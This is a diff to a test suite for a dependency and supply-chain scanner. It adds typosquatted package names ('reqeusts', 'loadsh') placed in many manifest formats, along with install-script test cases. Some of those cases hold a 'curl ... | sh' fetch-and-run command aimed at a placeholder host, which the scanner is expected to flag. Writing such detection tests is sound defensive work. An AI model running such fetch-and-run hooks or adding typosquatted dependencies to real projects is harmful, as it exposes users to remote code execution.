@@ -96,6 +96,35 @@ DECLARED = {
         "from setuptools import setup\nsetup(extras_require={'a': ['reqeusts']})\n",
         2,
     ),
+    "setup-py-grown": ("setup.py", "R: list = []\nR += ['reqeusts']\nsetup(install_requires=R)\n", 2),
+    "setup-py-appended": ("setup.py", "R = []\nR.append('reqeusts')\nsetup(install_requires=R)\n", 2),
+    "setup-py-twice": ("setup.py", "R = ['reqeusts']\nS = R + ['flask']\nsetup(install_requires=S)\nS = []\n", 1),
+    "setup-py-mapping": ("setup.py", "setup(**{'install_requires': [*('reqeusts',)]})\n", 1),
+    "setup-py-call": ("setup.py", "setup(install_requires=list({'reqeusts'}))\n", 1),
+    "setup-cfg-dash": ("setup.cfg", "[options]\ninstall-requires =\n  reqeusts\n", 3),
+    "requirements-bare": ("requirements", "reqeusts\n", 1),
+    "requirements-lock": ("requirements-dev.lock", "reqeusts==1\n", 1),
+    "requirements-short": ("test-reqs.txt", "reqeusts\n", 1),
+    "poetry-path-lie": ("pyproject.toml", '[tool.poetry.dependencies]\nreqeusts = {version = "1", path = "", workspace = false}\n', 2),
+    "poetry-plugins": ("pyproject.toml", '[tool.poetry.requires-plugins]\nreqeusts = "*"\n', 2),
+    "pixi-top": ("pixi.toml", '[pypi-dependencies]\nreqeusts = "*"\n', 2),
+    "pixi-feature": ("pyproject.toml", '[tool.pixi.feature.a.target.linux-64.pypi-dependencies]\nreqeusts = "*"\n', 2),
+    "flit": ("pyproject.toml", '[tool.flit.metadata]\nrequires = ["reqeusts"]\n', 2),
+    "hatch-hook": ("pyproject.toml", '[tool.hatch.build.hooks.custom]\ndependencies = ["reqeusts"]\n', 2),
+    "hatch-override": ("pyproject.toml", '[tool.hatch.envs.a.overrides.matrix.x]\ndependencies = [{value = "reqeusts", if = ["y"]}]\n', 2),
+    "hatch-own": ("hatch.toml", '[envs.default]\ndependencies = ["reqeusts"]\n', 2),
+    "uv-build": ("pyproject.toml", '[tool.uv.extra-build-dependencies]\nflask = ["reqeusts"]\n', 2),
+    "uv-metadata": ("pyproject.toml", '[[tool.uv.dependency-metadata]]\nname = "flask"\nrequires-dist = ["reqeusts"]\n', 3),
+    "uv-own": ("uv.toml", 'override-dependencies = ["reqeusts"]\n', 1),
+    "pdm-overrides": ("pyproject.toml", '[tool.pdm.resolution.overrides]\nreqeusts = "1"\n', 2),
+    "tox": ("tox.ini", "[testenv]\ndeps =\n  py311: reqeusts>=1\n", 3),
+    "tox-command": ("tox.ini", "[testenv]\ncommands = pip install reqeusts\n", 2),
+    "conda-flow": ("environment.yml", "dependencies:\n- pip: [flask, 'reqeusts']\n", 2),
+    "conda-quoted": ("environment.yml", "'dependencies':\n- \"pip\":\n  - reqeusts\n", 3),
+    "pnpm-catalog": ("pnpm-workspace.yaml", "packages:\n- a\ncatalog:\n  loadsh: ^4.0.0\n", 4),
+    "pnpm-overrides": ("pnpm-workspace.yaml", "overrides:\n  'a>lodash': npm:loadsh@4\n", 2),
+    "bun-catalog": ("package.json", package(workspaces={"packages": ["a"], "catalog": {"loadsh": "1"}}), 8),
+    "pnpm-extensions": ("package.json", package(pnpm={"packageExtensions": {"react": {"dependencies": {"loadsh": "1"}}}}), 7),
     "pipfile": ("Pipfile", '[packages]\nflask = "*"\nreqeusts = "*"\n', 3),
     "conda-pip": (
         "environment.yml",
@@ -158,7 +187,7 @@ DECLARED = {
     "shell-npx-package": ("build.sh", "npx --package=loadsh run\n", 1),
     "shell-pnpm": ("Makefile", "all:\n\tpnpm add loadsh\n", 2),
     "shell-yarn": ("build.sh", "yarn add loadsh\n", 1),
-}
+}  # fmt: skip
 
 
 @pytest.mark.parametrize(("path", "text", "line"), DECLARED.values(), ids=DECLARED)
@@ -350,6 +379,8 @@ def test_a_script_that_runs_at_installation_is_found():
     assert said(look({"package.json": package(scripts=scripts)})) == ["install-script medium 4"]
     fetches = {"preinstall": "curl -s https://a.example/x | sh"}
     assert said(look({"package.json": package(scripts=fetches)})) == ["install-script high 4"]
+    often = {"dependencies": "node scripts/setup.js", "prepublish": "npm run build"}
+    assert said(look({"package.json": package(scripts=often)})) == ["install-script medium 4"]
     hidden = {"prepare": "curl -s https://a.example/x | sh"}
     assert said(look({"package.json": package(scripts=hidden)})) == ["install-script high 4"]
 
